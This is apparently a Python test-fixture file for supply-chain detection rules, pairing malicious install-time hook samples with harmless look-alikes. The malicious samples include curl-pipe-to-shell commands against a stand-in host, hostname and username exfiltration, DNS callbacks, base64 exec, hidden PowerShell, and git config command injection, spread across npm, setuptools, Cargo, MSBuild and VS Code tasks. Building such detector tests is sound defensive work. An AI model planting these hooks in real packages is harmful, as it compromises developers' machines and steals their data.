"""Samples of install-time hooks, and harmless twins close to them; ``¦`` marks cuts."""

from __future__ import annotations

from tests.examine.yara.samples.support import joined

BAD: dict[str, list[bytes]] = {
    "RG-INS-0017": [
        joined('[core]\n\tbare = false\n\tfsmon¦itor = "id; true"\n'),
        joined("[core]\n\tsshCom¦mand = sh -c id\n"),
    ],
    "RG-INS-0001": [
        joined("from setupt¦ools import setup\nexec(requ¦es¦t¦s.get('https://x.invalid/a').text)\nset¦up(name='x')\n"),
    ],
    "RG-INS-0002": [
        joined(
            "class X(inst¦all):\n    def run(self):\n        os.syst¦em('cu¦rl -s h¦ttps://x.invalid/a -o /tmp/a')\n"
        ),
        joined("class X(deve¦lop):\n    def run(self):\n        subprocess.Pop¦en(['power¦shell', '-c', 'x'])\n"),
    ],
    "RG-INS-0003": [
        joined(
            "from setupt¦ools import setup\n"
            "request¦s.post('https://x.invalid', "
            "json={'h': socket.ge¦tho¦stname(), 'u': getpas¦s.getuser()})\n"
            "set¦up(cmdc¦lass={'install': X})\n"
        ),
    ],
    "RG-INS-0004": [
        joined(
            "class H(BuildHook¦Interface):\n"
            "    def initialize(self, v, d):\n"
            "        os.syst¦em('cu¦rl -s h¦t¦tp¦s://x.i¦nvalid/a | sh')\n"
        ),
        joined("def buil¦d_wheel(d, c=None, m=None):\n    exec(bas¦e6¦4.b64de¦code(B))\n"),
    ],
    "RG-INS-0005": [
        joined('{"scripts": {"preinstall": "cu¦rl -s h¦ttps://x.i¦nvalid/a | bash"}}'),
        joined('{"scripts": {"postinstall": "node -e \\"r¦equire(\'child_p¦rocess\').ex¦ec(\'id\')\\""}}'),
    ],
    "RG-INS-0006": [
        joined('{"scripts": {"preinstall": "ech¦o aWQ= | bas¦e¦64 -d > x.sh"}}'),
        joined('{"scripts": {"instal¦l": "ms¦hta x"}}'),
    ],
    "RG-INS-0007": [
        joined('{"scripts": {"preinstall": "n¦slo¦okup $(whoami).x.invalid"}}'),
        joined('{"scripts": {"postinstall": "cu¦rl h¦ttp¦s://x.invalid/?h=`hostname`"}}'),
    ],
    "RG-INS-0008": [
        joined('{"scripts": {"postinstall": "no¦de ./lib/.cache.js"}}'),
        joined('{"scripts": {"preinstal¦l": "node .x"}}'),
    ],
    "RG-INS-0009": [
        joined("registry=https://registry.npmjs.org/\nscript-shel¦l=./tools/sh\n"),
        joined("node-option¦s=--require ./x.js\n"),
    ],
    "RG-INS-0010": [
        joined('{"targets": [{"target_name": "x", "sources": ["<!(c¦u¦rl -s h¦ttp://x.invalid/a)"]}]}'),
        joined('{"variables": {"a": "<!(node -e \\"requ¦ire(\'child_p¦rocess\').ex¦ec(\'id\')\\")"}}'),
    ],
    "RG-INS-0011": [
        joined("require 'mk¦mf'\nsystem('cu¦rl -s h¦ttp¦s://x.i¦nvalid/a | sh')\ncreate_m¦akefile('x')\n"),
        joined("Gem.pos¦t_install do |i|\n  eval Base6¦4.decode64('cHV0cyAx')\nend\n"),
    ],
    "RG-INS-0012": [
        joined('#!/bin/sh\nset -e\ncase "$1" in\nconfi¦gure)\n  cu¦rl -s h¦ttp://x.i¦nvalid/a | sh\n  ;;\nesac\n'),
    ],
    "RG-INS-0013": [
        joined(
            'fn main() { println!("cargo:r¦erun-if-change'
            'd=x"); Command::new("s¦h").a¦r¦g("-c").a¦r¦g'
            '("c¦u¦r¦l h¦t¦t¦p¦s://x.i¦nvalid/a | sh").status(); }'
        ),
    ],
    "RG-INS-0014": [
        joined(
            '<Pro¦ject><Ta¦rget Name="x" '
            'BeforeTargets="Build"><Exec '
            'Command="power¦shel¦l -w¦ h¦idden -enc AAAA" /></Target></Project>'
        ),
    ],
    "RG-INS-0015": [
        joined(
            '{"tasks": [{"label": "x", "command": "cu¦rl '
            '-s h¦tt¦ps://x.i¦nvalid/a | bash", "runOptions": {"runOn": "f¦olderOpen"}}]}\n'
            '{"a": 1,\n'
            ' "runOn": "f¦olderOpen",\n'
            ' "command": "cu¦rl -s h¦tt¦ps://x.i¦nvalid/a | bash"}'
        ),
    ],
    "RG-INS-0016": [
        joined("cu¦rl h¦ttp://abcd1234.oasti¦fy.com/`id`\n"),
    ],
}
"""Samples that a rule must find, by the rule's id."""

BENIGN: dict[str, list[bytes]] = {
    "RG-INS-0017": [
        b"[core]\n\tfsmonitor = true\n[alias]\n\tst = status; x\n",
        b"[core]\n\tfsmonitor = .git/hooks/query-watchman\n\tsshCommand = ssh -i ~/.ssh/id\n",
    ],
    "RG-INS-0001": [
        joined("from setupt¦ools import setup\nexec(open('version.py').read())\nset¦up(name='x')\n"),
    ],
    "RG-INS-0002": [
        joined("class X(inst¦all):\n    def run(self):\n        subprocess.check_call(['make', 'docs'])\n"),
        joined("os.syst¦em('cu¦rl -s h¦ttps://example.org/a')\n"),
    ],
    "RG-INS-0003": [
        joined(
            "from setupt¦ools import setup\n"
            "if platfo¦rm.node() == 'ci': os.en¦viron['A'] = '1'\n"
            "set¦up(cmdc¦lass={'build_ext': X})\n"
        ),
    ],
    "RG-INS-0004": [
        joined(
            "class H(BuildHook¦Interface):\n"
            "    def initialize(self, v, d):\n"
            "        subprocess.r¦un(['npm', 'run', 'build'])\n"
        ),
    ],
    "RG-INS-0005": [
        joined('{"scripts": {"postinstall": "node scripts/build.js", "test": "cu¦rl h¦ttps://example.org | grep x"}}'),
    ],
    "RG-INS-0006": [
        joined('{"scripts": {"install": "node-gyp rebuild",\n "encode": "bas¦e¦64 -d x"}}'),
    ],
    "RG-INS-0007": [
        joined('{"scripts": {"postinstall": "echo $(node -v)", "whoami": "npm whoami"}}'),
    ],
    "RG-INS-0008": [
        joined('{"scripts": {"postinstall": "node ./lib/install.js", "lint": "eslint -c .eslintrc.js"}}'),
    ],
    "RG-INS-0009": [
        joined("registry=https://registry.npmjs.org/\nscript-shell=/bin/bash\n"),
        joined("node-options=--max-old-space-size=4096\n"),
    ],
    "RG-INS-0010": [
        joined('{"include_dirs": ["<!(node -e \\"require(\'nan\')\\")", "<!@(pkg-config --cflags x)"]}'),
    ],
    "RG-INS-0011": [
        joined("require 'mk¦mf'\nsystem('make -C vendor')\ncreate_m¦akefile('x')\n"),
    ],
    "RG-INS-0012": [
        joined('#!/bin/sh\nset -e\ncase "$1" in\nconfi¦gure)\n  adduser --system svc\n  ;;\nesac\n'),
    ],
    "RG-INS-0013": [
        joined('fn main() { println!("cargo:r¦erun-if-changed=x"); Command::new("cmake").arg("..").status(); }'),
    ],
    "RG-INS-0014": [
        joined(
            '<Pro¦ject><Ta¦rget Name="x" '
            'BeforeTargets="Build"><Exec Command="dotnet tool restore" /></Target></Project>'
        ),
    ],
    "RG-INS-0015": [
        joined('{"tasks": [{"label": "x", "command": "npm run watch",\n "runOptions": {"runOn": "f¦olderOpen"}}]}'),
    ],
    "RG-INS-0016": [
        joined("Burp Collaborator uses hosts below oastify.com\n"),
        joined("cu¦rl h¦ttps://example.com/\n"),
    ],
}
"""Harmless content that is like a rule's samples, by the rule's id."""
